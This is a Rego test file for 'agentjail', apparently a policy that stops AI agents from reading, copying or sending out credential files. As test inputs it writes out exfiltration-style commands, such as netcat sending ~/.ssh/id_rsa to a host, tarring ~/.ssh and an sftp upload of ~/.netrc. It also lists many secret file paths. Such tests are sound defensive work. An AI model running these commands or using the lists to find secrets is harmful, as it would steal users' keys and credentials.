package agentjail

test_read_private_key_denied if t_denied("secrets.credentials", t_tool("Read", {"file_path": "~/.ssh/id_ed25519"}, ["/home/dev/.ssh/id_ed25519"]))

test_read_public_key_allowed if not t_fired("secrets.credentials", t_tool("Read", {"file_path": "~/.ssh/id_ed25519.pub"}, ["/home/dev/.ssh/id_ed25519.pub"]))

test_grep_aws_dir_denied if t_denied("secrets.credentials", t_tool("Grep", {"pattern": "AKIA", "path": "~/.aws"}, ["/home/dev/.aws"]))

test_read_aws_config_allowed if not t_fired("secrets.credentials", t_tool("Read", {"file_path": "~/.aws/config"}, ["/home/dev/.aws/config"]))

test_glob_keys_denied if t_denied("secrets.credentials", t_tool("Glob", {"pattern": ".ssh/id_*", "path": "~"}, ["/home/dev", "/home/dev/.ssh/id_*"]))

test_proc_environ_denied if t_denied("secrets.credentials", t_tool("Read", {"file_path": "/proc/1/environ"}, ["/proc/1/environ"]))

test_cat_credentials_denied if t_denied("secrets.credentials", t_bash([t_cmd("cat", ["/home/dev/.aws/credentials"], ["/home/dev/.aws/credentials"])]))

test_tar_ssh_dir_denied if t_denied("secrets.credentials", t_bash([t_cmd("tar", ["czf", "k.tgz", "/home/dev/.ssh"], ["/home/dev/project/czf", "/home/dev/project/k.tgz", "/home/dev/.ssh"])]))

test_ls_ssh_dir_allowed if not t_fired("secrets.credentials", t_bash([t_cmd("ls", ["-la", "/home/dev/.ssh"], ["/home/dev/.ssh"])]))

test_ssh_with_identity_allowed if not t_fired("secrets.credentials", t_bash([t_cmd("ssh", ["-i", "/home/dev/.ssh/id_rsa", "host"], ["/home/dev/.ssh/id_rsa", "/home/dev/project/host"])]))

test_redirect_from_key_denied if {
	cmd := object.union(t_cmd("nc", ["example.com", "80"], []), {"redirects": [{"op": "<", "target": "~/.ssh/id_rsa", "path": "/home/dev/.ssh/id_rsa"}]})
	t_denied("secrets.credentials", t_bash([cmd]))
}

test_protected_path_denied if {
	ev := t_tool("Read", {"file_path": "/srv/vault/token"}, ["/srv/vault/token"])
	t_denied("secrets.credentials", ev) with data.config.protected_paths as ["/srv/vault"]
}

# A protected path is named by its config.yaml entry: a folder of notes
# does not hold private keys. A real secret under an entry keeps its own
# message.
test_protected_path_message_names_the_entry if {
	read := t_tool("Read", {"file_path": "/home/dev/notes/todo.md"}, ["/home/dev/notes/todo.md"])
	msgs := {m.msg | some m in deny with input as read with data.config.protected_paths as ["/srv/x", "/home/dev/notes"]}
	msgs == {"Blocked: ~/notes/todo.md is under ~/notes, which is in protected_paths in ~/.agentjail/config.yaml, so agents must not read, copy or change it. Ask the user for what you need from it."}

	folder := t_bash([t_cmd("cat", ["/home/dev/notes"], ["/home/dev/notes"])])
	some m in deny with input as folder with data.config.protected_paths as ["/home/dev/notes"]
	m.msg == "Blocked: ~/notes is in protected_paths in ~/.agentjail/config.yaml, so agents must not read, copy or change it. Ask the user for what you need from it."

	nested := t_tool("Read", {"file_path": "/home/dev/notes/work/a.md"}, ["/home/dev/notes/work/a.md"])
	some n in deny with input as nested with data.config.protected_paths as ["/home/dev/notes", "/home/dev/notes/work"]
	contains(n.msg, "is under ~/notes/work, which is in protected_paths")

	key := t_tool("Read", {"file_path": "/home/dev/.ssh/id_rsa"}, ["/home/dev/.ssh/id_rsa"])
	some k in deny with input as key with data.config.protected_paths as ["/home/dev/.ssh"]
	contains(k.msg, "holds private keys")
	not contains(k.msg, "protected_paths")

	pub := t_tool("Read", {"file_path": "/home/dev/.ssh/id_rsa.pub"}, ["/home/dev/.ssh/id_rsa.pub"])
	some u in deny with input as pub with data.config.protected_paths as ["/home/dev/.ssh"]
	contains(u.msg, "~/.ssh/id_rsa.pub is under ~/.ssh, which is in protected_paths")
}

test_protected_path_message_names_the_configured_home if {
	ev := json.patch(t_tool("Read", {"file_path": "/srv/vault/token"}, ["/srv/vault/token"]), [{"op": "replace", "path": "/agentjail/agentjail_home", "value": "/opt/aj"}])
	some m in deny with input as ev with data.config.protected_paths as ["/srv/vault"]
	contains(m.msg, "/srv/vault/token is under /srv/vault, which is in protected_paths in /opt/aj/config.yaml")
}

test_env_file_asked if t_asked("secrets.key_file", t_tool("Read", {"file_path": ".env"}, ["/home/dev/project/.env"]))

test_env_example_allowed if not t_fired("secrets.key_file", t_tool("Read", {"file_path": ".env.example"}, ["/home/dev/project/.env.example"]))

test_echo_env_name_allowed if not t_fired("secrets.key_file", t_bash([t_cmd("echo", [".env"], ["/home/dev/project/.env"])]))

# --- the shape tests in front of key_file and secret ---------------------

# Every key_file spelling (secrets.rego's and sensitive.rego's) gets past
# the shape test in front of key_file, in any case.
t_key_files := [
	".env", ".env.local", ".ENV", ".envrc", "k.pem", "K.PEM", "k.key", "k.p12", "k.pfx", "k.jks", "k.keystore", "k.ppk",
	"id_rsa", "ID_RSA", "id_dsa", "id_ecdsa", "id_ed25519", "credentials.json", "secrets.yaml", "secret.yml",
	".secrets.json", "secrets.toml", "secrets.txt", "secrets.env", ".secrets", "my-service-account.json",
	"x_sa_key.json", "x-sa.json", "gha-creds-0a1b.json", "firebase-adminsdk-x1.json", "client_secret_12.json",
	".netrc", "_netrc", ".git-credentials", ".pgpass", ".vault-token", ".pypirc", ".s3cfg", ".boto", ".my.cnf",
	".aws/credentials", ".kube/config", ".config/gh/hosts.yml", ".cargo/credentials", ".cargo/credentials.toml",
	".terraform.d/credentials.tfrc.json", "db.kdbx", "login.keychain", "login.keychain-db", "k.gpg", "k.asc",
	"k.age", "AuthKey.p8", "app.mobileprovision",
]

test_key_file_spellings_asked if {
	every name in t_key_files {
		p := concat("/", [t_project, "deploy", name])
		t_asked("secrets.key_file", t_tool("Read", {"file_path": p}, [p]))
	}
}

# Names that look alike but hold no secret: some pass the shape test and
# fail key_file, some fail the shape test.
test_key_file_look_alikes_allowed if {
	every name in ["main.go", "src", "README.md", "notes.txt", "app.json", "config", "credentials.md", ".environment", ".env.example", "secrets.yaml.example", "id_rsa_backup", "k.keys", "..."] {
		p := concat("/", [t_project, name])
		not t_fired("secrets.key_file", t_tool("Read", {"file_path": p}, [p]))
	}
}

# Every secret spelling (secrets.rego's and sensitive.rego's, in HOME,
# in another user's home and absolute) gets past the shape test in front
# of secret.
t_home_secrets := [
	".ssh", ".ssh/id_rsa", ".gnupg/private-keys-v1.d/k.key", ".password-store/x.gpg", ".aws", ".aws/credentials",
	".aws/sso/cache/t.json", ".config/gcloud/credentials.db", ".azure/accessTokens.json", ".kube/config",
	".docker/config.json", ".netrc", ".npmrc", ".git-credentials", ".cargo/credentials.toml", ".bash_history",
	".local/share/fish/fish_history", "Library/Keychains", "Library/Keychains/login.keychain-db", "Library/Cookies/c",
	"Library/Application Support/Google/Chrome/Default", ".config/google-chrome/Default", ".mozilla/firefox/p",
	".config/gh/hosts.yml", ".terraformrc", ".config/rclone/rclone.conf", ".m2/settings.xml", ".kube/prod.yaml",
	".local/share/keyrings/login.keyring", ".huggingface/token", ".age/k.txt",
]

test_home_secret_spellings_denied if {
	every rel in t_home_secrets {
		p := concat("/", [t_home, rel])
		t_denied("secrets.credentials", t_tool("Read", {"file_path": p}, [p]))
	}
}

test_other_home_secrets_denied if {
	every p in ["/root/.aws/credentials", "/home/other/.ssh/id_rsa", "/Users/x/.netrc", "/var/root/.gnupg"] {
		t_denied("secrets.credentials", t_tool("Read", {"file_path": p}, [p]))
	}
}

test_absolute_secrets_denied if {
	every p in [
		"/tmp/x/.ssh/k", "/proc/1/environ", "/etc/shadow", "/private/etc/sudoers", "/Library/Keychains",
		"/Library/Keychains/System.keychain", "/etc/ssh/ssh_host_ed25519_key", "/run/secrets/db",
		"/var/run/secrets/kubernetes.io/token", "/etc/ssl/private/k.pem", "/var/lib/rancher/k3s/server/token",
	] {
		t_denied("secrets.credentials", t_tool("Read", {"file_path": p}, [p]))
	}
}

test_secret_look_alikes_allowed if {
	every p in [
		"/home/dev/.aws/config", "/home/dev/.ssh/id_rsa.pub", "/home/dev/.ssh/known_hosts", "/home/dev/.ssh/authorized_keys",
		"/home/dev/Library/Preferences/x.plist", "/etc/hosts", "/var/log/syslog", "/procx/1/environ", "/tmp/x",
		"/home/dev/project/...", "/home/dev/..hidden/x", "/home/devx/.ssh_notes",
	] {
		not t_fired("secrets.credentials", t_tool("Read", {"file_path": p}, [p]))
	}
}

# A secret named in a shell call: read by cat, named by ls, read through
# a redirect whatever the program.
test_secret_read_by_program if {
	t_denied("secrets.credentials", t_bash([t_cmd("cat", ["/home/dev/.netrc"], ["/home/dev/.netrc"])]))
	not t_fired("secrets.credentials", t_bash([t_cmd("stat", ["/home/dev/.netrc"], ["/home/dev/.netrc"])]))
	cmd := object.union(t_cmd("stat", [], []), {"redirects": [{"op": "<", "target": "~/.netrc", "path": "/home/dev/.netrc"}]})
	t_denied("secrets.credentials", t_bash([cmd]))
}

# A key file that is also a secret is denied, not asked about.
test_secret_key_file_denied_not_asked if {
	ev := t_tool("Read", {"file_path": "~/.ssh/id_rsa"}, ["/home/dev/.ssh/id_rsa"])
	t_denied("secrets.credentials", ev)
	not t_asked("secrets.key_file", ev)
}

# A protected path inside the project is not unusual, and still denied.
test_protected_path_in_project_denied if {
	ev := t_tool("Read", {"file_path": "keys/a.txt"}, ["/home/dev/project/keys/a.txt"])
	t_denied("secrets.credentials", ev) with data.config.protected_paths as ["/home/dev/project/keys"]
	not t_fired("secrets.credentials", ev)
}

test_shown_is_pretty if {
	every p in ["/home/dev/.ssh/id_rsa", "/home/dev", "/home/devx/k", "/etc/shadow", "/home/dev/project/.env"] {
		shown(p) == pretty(p) with input as t_tool("Read", {"file_path": p}, [p])
	}
	shown("/home/dev/.ssh/id_rsa") == "~/.ssh/id_rsa" with input as t_tool("Read", {}, ["/x"])
}

# Batch uploads through a transfer client: the rule runs only for the
# "transfer" programs.
test_transfer_group if {
	every prog in batch_transfer_clients {
		"transfer" in program_groups[prog]
	}
}

test_sftp_batch_upload_denied if {
	cmd := object.union(t_cmd("sftp", ["host"], []), {"redirects": [{"op": "<<<", "target": "put ~/.netrc", "path": ""}]})
	t_denied("secrets.credentials", t_bash([cmd]))
}

test_sftp_batch_get_allowed if {
	cmd := object.union(t_cmd("sftp", ["host"], []), {"redirects": [{"op": "<<<", "target": "get ~/.netrc", "path": ""}]})
	not t_fired("secrets.credentials", t_bash([cmd]))
}

test_unknown_path_asked if {
	cmd := object.union(t_cmd("cat", ["$D/credentials"], []), {"dynamic": true, "maybe": ["/home/dev/.aws/credentials"]})
	t_asked("secrets.unknown", t_bash([cmd]))
	lookup := object.union(cmd, {"name": "ls", "program": "ls"})
	not t_fired("secrets.unknown", t_bash([lookup]))
}

test_dynamic_environ_denied if {
	cmd := object.union(t_cmd("cat", ["/proc/$$/environ"], []), {"dynamic": true})
	t_denied("secrets.credentials", t_bash([cmd]))
}

test_config_write_denied if {
	t_denied("secrets.config_write", t_tool("Edit", {"file_path": "~/.config/gh/config.yml"}, ["/home/dev/.config/gh/config.yml"]))
	not t_fired("secrets.config_write", t_tool("Edit", {"file_path": "~/.ssh/known_hosts"}, ["/home/dev/.ssh/known_hosts"]))
	not t_fired("secrets.config_write", t_tool("Edit", {"file_path": "~/.config/other/c.yml"}, ["/home/dev/.config/other/c.yml"]))
}
